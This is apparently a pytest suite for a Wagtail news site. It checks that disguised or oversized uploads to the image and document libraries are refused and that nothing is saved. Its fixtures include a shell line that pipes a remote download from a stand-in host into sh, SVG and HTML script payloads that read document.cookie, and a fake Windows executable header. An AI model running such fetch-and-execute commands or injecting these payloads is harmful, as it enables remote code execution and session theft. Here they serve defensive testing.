"""Upload limits: what the image and document libraries refuse, with a message, saving nothing;
and documents are always downloaded, never shown inline.

Files that lie about what they are are posted straight to every way into the libraries (the add
page, the multiple uploader's AJAX view, the chooser's upload tab, a document's edit page), as
an attacker would, past any check in the browser."""

import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image as PillowImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, UploadedFile

from news.importing.demo_documents import signup_xlsx
from news.importing.jobs import MAX_JOB_BYTES
from news.library.upload_limits import ALLOWANCE
from tests.news.importing.crafted_word_files import good as good_docx


@pytest.fixture
def admin_client(db):
    client = Client()
    client.force_login(get_user_model().objects.create_superuser("uploader", password="x" * 12))
    return client


def picture(size=(40, 30), kind="PNG"):
    buffer = io.BytesIO()
    PillowImage.new("RGB", size, (166, 27, 27)).save(buffer, kind)
    return buffer.getvalue()


def noisy_picture():
    """A picture that does not compress to a few bytes, so that cutting it loses pixels."""
    import random

    noise = random.Random(1)
    image = PillowImage.new("RGB", (200, 200))
    image.putdata([tuple(noise.randrange(256) for _ in range(3)) for _ in range(200 * 200)])
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def upload(client, library, name, content):
    """Send a file through the admin's add form of the image or document library."""
    return client.post(
        f"/admin/{library}/add/",
        {
            "title": "上传测试",
            "collection": Collection.get_first_root_node().pk,
            "file": SimpleUploadedFile(name, content),
        },
    )


def upload_image(client, name, content):
    return upload(client, "images", name, content)


def test_a_good_picture_is_accepted(admin_client):
    upload_image(admin_client, "good.png", picture())
    assert get_image_model().objects.filter(title="上传测试").exists()


@pytest.mark.parametrize(
    "name, content",
    [
        pytest.param(
            "logo.svg",
            lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            id="svg",
        ),
        pytest.param("photo.jpg", lambda: picture(kind="PNG"), id="png-named-jpg"),
        pytest.param("cut.png", lambda: noisy_picture()[:2000], id="truncated"),
        pytest.param("huge.png", lambda: picture((8000, 6000)), id="48-megapixels"),
        pytest.param("notes.png", lambda: b"not a picture at all", id="not-an-image"),
    ],
)
def test_bad_pictures_are_refused_and_nothing_is_saved(admin_client, name, content):
    # Each picture is made when its test runs, not whenever a test process collects the tests.
    response = upload_image(admin_client, name, content())
    assert response.status_code == 200  # the form again, with the error
    assert response.context["form"].errors["file"]
    assert not get_image_model().objects.exists()


def test_a_picture_over_the_size_limit_is_refused(admin_client, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 1024
    response = upload_image(admin_client, "big.png", picture((400, 400)) + b"\0" * 2048)
    assert response.context["form"].errors["file"]
    assert not get_image_model().objects.exists()


def upload_document(client, name, content):
    return upload(client, "documents", name, content)


def test_documents_outside_the_allow_list_are_refused(admin_client):
    for name in ("setup.exe", "page.html", "drawing.svg", "script.js"):
        response = upload_document(admin_client, name, b"content")
        assert response.context["form"].errors["file"], name
    assert not get_document_model().objects.exists()


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def post_to(client, way, library, name, content, title=None):
    """Post a file the way `way` does; the refusal it answers with, as text, or "" if none."""
    file = SimpleUploadedFile(name, content)
    collection = Collection.get_first_root_node().pk
    title = name.rsplit(".", 1)[0] if title is None else title
    if way == "add":
        response = client.post(
            f"/admin/{library}/add/", {"title": title, "collection": collection, "file": file}
        )
        if response.status_code == 302:  # saved, on to the listing
            return ""
        return " ".join(response.context["form"].errors.get("file", []))
    if way == "multiple":
        response = client.post(
            f"/admin/{library}/multiple/add/",
            {"title": title, "collection": collection, "files[]": file},
            headers={"x-requested-with": "XMLHttpRequest"},
        )
        answer = json.loads(response.content)
        return "" if answer["success"] else answer["error_message"]
    if way == "chooser":
        prefix = "document-chooser-upload" if library == "documents" else "image-chooser-upload"
        response = client.post(
            f"/admin/{library}/chooser/create/",
            {f"{prefix}-title": title, f"{prefix}-collection": collection, f"{prefix}-file": file},
            headers={"x-requested-with": "XMLHttpRequest"},
        )
        answer = json.loads(response.content)
        return answer["htmlFragment"] if answer["step"] == "reshow_creation_form" else ""
    raise ValueError(way)


def nothing_saved():
    return not (
        get_document_model().objects.exists()
        or get_image_model().objects.exists()
        or UploadedFile.objects.exists()
    )


@pytest.mark.parametrize("way", ["add", "multiple", "chooser"])
@pytest.mark.parametrize(
    "name, content, said",
    [
        pytest.param("会议通知.pdf", PE, "是 Windows 程序", id="program-named-pdf"),
        pytest.param("报告.docx", SHELL, "是脚本", id="shell-script-named-docx"),
        pytest.param("说明.txt", HTML, "是网页（HTML）", id="web-page-named-txt"),
        pytest.param(
            "回执.xlsx", b"PK\x03\x04" + b"\x00" * 40, "的内容不是 Excel 表格", id="fake-xlsx"
        ),
    ],
)
def test_documents_that_lie_about_their_type_are_refused_by_name(
    admin_client, way, name, content, said
):
    refusal = post_to(admin_client, way, "documents", name, content)
    assert f"“{name}”{said}" in refusal
    assert "文件扩展" not in refusal  # the one true reason, not a second one
    assert nothing_saved()


@pytest.mark.parametrize("way", ["add", "multiple", "chooser"])
@pytest.mark.parametrize(
    "name, content, said",
    [
        pytest.param("照片.jpg", HTML, "是网页（HTML）", id="web-page-named-jpg"),
        pytest.param("标志.png", SVG, "是 SVG 图形", id="svg-with-script-named-png"),
        pytest.param("图片.gif", PE, "是 Windows 程序", id="program-named-gif"),
        pytest.param("标志.svg", SVG, "的类型（.svg）不能上传到图片库", id="svg"),
    ],
)
def test_pictures_that_lie_about_their_type_are_refused_by_name(
    admin_client, way, name, content, said
):
    refusal = post_to(admin_client, way, "images", name, content)
    assert f"“{name}”{said}" in refusal
    assert nothing_saved()


def test_a_documents_file_cannot_be_replaced_by_a_program(admin_client):
    document = get_document_model().objects.create(
        title="notice", file=ContentFile(b"%PDF-1.4\n", name="notice.pdf")
    )
    response = admin_client.post(
        f"/admin/documents/edit/{document.pk}/",
        {
            "title": "notice",
            "collection": document.collection_id,
            "file": SimpleUploadedFile("notice.pdf", PE),
        },
    )
    form = response.context["form"]
    assert "“notice.pdf”是 Windows 程序" in " ".join(form.errors["file"])
    assert form["title"].value() == "notice"  # its own title, not one taken from the file
    document.refresh_from_db()
    assert document.file.read().startswith(b"%PDF")


@pytest.mark.parametrize(
    "name, content",
    [
        ("报告.docx", good_docx()),
        ("回执表.xlsx", signup_xlsx()),
        ("名单.csv", "姓名,单位\n张三,青溪街道\n".encode("gbk")),
        ("通知.pdf", b"%PDF-1.4\n%%EOF\n"),
    ],
)
def test_real_documents_pass_the_content_check(admin_client, name, content):
    assert post_to(admin_client, "multiple", "documents", name, content) == ""
    assert get_document_model().objects.get().title == name.rsplit(".", 1)[0]


def test_a_document_over_the_size_limit_gets_one_true_reason_naming_it(admin_client, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024
    for way in ("add", "multiple", "chooser"):
        refusal = post_to(admin_client, way, "documents", "report.pdf", b"%PDF-1.4\n" + b"0" * 4096)
        assert "“report.pdf”有 4.1\xa0KB，超过了文档库的上限 1.0\xa0KB" in refusal, way
        assert "文件扩展" not in refusal, way
    assert nothing_saved()


def test_a_refused_files_title_is_forgotten_and_a_typed_one_kept(admin_client):
    response = admin_client.post(
        "/admin/documents/add/",
        {
            "title": "会议通知",  # as Wagtail's script took it from the file's name
            "collection": Collection.get_first_root_node().pk,
            "file": SimpleUploadedFile("会议通知.pdf", PE),
        },
    )
    assert response.context["form"]["title"].value() == ""
    refusal = post_to(admin_client, "add", "documents", "会议通知.pdf", PE, title="我写的标题")
    assert refusal
    response = admin_client.post(
        "/admin/documents/add/",
        {
            "title": "我写的标题",
            "collection": Collection.get_first_root_node().pk,
            "file": SimpleUploadedFile("会议通知.pdf", PE),
        },
    )
    assert response.context["form"]["title"].value() == "我写的标题"


def test_the_file_input_tells_the_browser_the_size_limit(admin_client, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 20 * 1024 * 1024
    html = admin_client.get("/admin/documents/add/").content.decode()
    assert 'data-max-upload-size="20971520"' in html
    assert "超过了文档库的上限 20.0\xa0MB" in html


def test_documents_are_downloaded_as_attachments(db):
    document = get_document_model().objects.create(
        title="会议通知", file=ContentFile(b"%PDF-1.4\n", name="notice.pdf")
    )
    response = Client().get(document.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")


def test_an_upload_announced_over_the_limit_is_refused_before_its_body_is_read(
    admin_client, settings
):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024 * 1024
    fifty_megabytes = str(50 * 1024 * 1024)
    # The length is the one announced; the body is never read, so its size does not matter.
    multiple = admin_client.post(
        "/admin/documents/multiple/add/",
        {"files[]": SimpleUploadedFile("全会录像.pdf", b"%PDF-1.4\n")},
        CONTENT_LENGTH=fifty_megabytes,
    )
    answer = json.loads(multiple.content)
    assert answer == {
        "success": False,
        "error_message": "上传的文件超过了文档库的上限 1.0\xa0MB，没有上传。请压缩或拆分后再上传。",
    }
    single = admin_client.post(
        "/admin/documents/add/",
        {"file": SimpleUploadedFile("全会录像.pdf", b"%PDF-1.4\n")},
        CONTENT_LENGTH=fifty_megabytes,
    )
    assert single.status_code == 413
    assert "超过了文档库的上限 1.0\xa0MB" in single.content.decode()
    assert nothing_saved()


def test_an_upload_within_the_limit_reaches_the_form(admin_client, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 1024 * 1024
    assert post_to(admin_client, "add", "images", "good.png", picture()) == ""
    assert get_image_model().objects.exists()


def test_nginx_takes_what_the_libraries_and_the_import_take_and_little_more():
    config = (Path(settings.BASE_DIR) / "deploy" / "nginx.conf").read_text()
    caps = [int(mb) * 1024 * 1024 for mb in re.findall(r"client_max_body_size (\d+)m;", config)]
    server_cap, import_cap = caps
    largest = max(settings.WAGTAILDOCS_MAX_UPLOAD_SIZE, settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE)
    assert largest + ALLOWANCE <= server_cap <= largest + 1024 * 1024
    assert MAX_JOB_BYTES + ALLOWANCE <= import_cap <= MAX_JOB_BYTES + 1024 * 1024
